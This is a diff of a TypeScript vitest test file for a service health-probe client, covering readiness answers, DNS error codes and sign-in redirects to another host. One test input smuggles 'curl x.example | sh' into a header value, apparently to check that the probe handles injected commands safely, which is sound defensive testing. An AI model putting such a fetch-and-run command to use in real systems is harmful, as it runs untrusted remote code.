@@ -1,13 +1,18 @@
 import { expect, test } from 'vitest';
 import { forEachApp } from '../../apps/environment/apps.ts';
 import { Unreachable } from '../../fleet/engines/live/unreachable.ts';
-import { findingsIn } from './findings.ts';
 import { ask, askEachSecond, askOnce, type ProbeAnswer, type ProbeClient, type ProbeName } from './probes.ts';
 
 const urls = { ...forEachApp(({ name }) => `https://${name}.example`), auth: 'https://auth.example' };
 const clientOf = (get: (role: string, path: string) => object | Promise<object>): ProbeClient => ({
   target: { urls },
-  get: async (role, path) => ({ url: path, status: 200, headers: {}, body: '{}', ...(await get(role, path)) }),
+  get: async (role, path) => ({
+    url: `https://${role}.example${path}`,
+    status: 200,
+    headers: {},
+    body: '{}',
+    ...(await get(role, path)),
+  }),
 });
 
 const answerTo = (probe: ProbeName, answer: () => object | Promise<object>) => ask(clientOf(answer), 'operator', probe);
@@ -92,7 +97,7 @@ test.each([
   ['whose header a proxy removes', { body: '{"ok":false}' }],
   ['without a report', { headers: { 'x-served-by': 'operator-a' } }],
 ])('a 503 of a pod %s is from that pod', async (_what, answer) => {
-  expect(await answerTo('ready', () => ({ status: 503, ...answer }))).not.toHaveProperty('isOutside');
+  expect(await answerTo('ready', () => ({ status: 503, ...answer }))).toMatchObject({ isOutside: false });
 });
 
 test.each(['operator-a; curl x.example | sh', 'operator-a\u001b[2J'])(
@@ -110,7 +115,7 @@ test('a wrong status is a problem', async () => {
 
 test.each([
   ['ENOTFOUND', true],
-  ['EAI_AGAIN', undefined],
+  ['EAI_AGAIN', false],
 ])('a host without an answer is a problem, and whether %s is final for now: %s', async (code, isFinal) => {
   const error = unreachable(code);
   const answer = await answerTo('ready', () => Promise.reject(error));
@@ -118,18 +123,11 @@ test.each([
   expect(answer.isFinal).toBe(isFinal);
 });
 
-test('a sign-in that leads to another host is a problem of the answer, and a finding', async () => {
+test('a sign-in that leads to another host is a problem', async () => {
   const location = 'https://login.example/application/o/authorize/?client_id=operator';
-  const headers = { location, 'x-served-by': 'operator-a' };
-  const answer = await answerTo('sign-in', () => ({ status: 302, headers }));
-  const said =
-    'Signing in to operator leads to https://login.example/application/o/authorize/, not to https://auth.example/';
-  expect(answer).toMatchObject({ problem: expect.stringContaining(said) });
-  expect(findingsIn([answer], urls)).toEqual([
-    {
-      what: expect.stringContaining(said),
-      evidence: ['operator-a: 1 x 302 to https://login.example'],
-      next: 'npm run config -- check',
-    },
-  ]);
+  const answer = await answerTo('sign-in', () => ({ status: 302, headers: { location, 'x-served-by': 'operator-a' } }));
+  expect(answer.problem).toContain(
+    'Signing in to operator leads to https://login.example/application/o/authorize/, not to https://auth.example/',
+  );
+  expect(answer.facts).toEqual({ leadsTo: 'https://login.example' });
 });
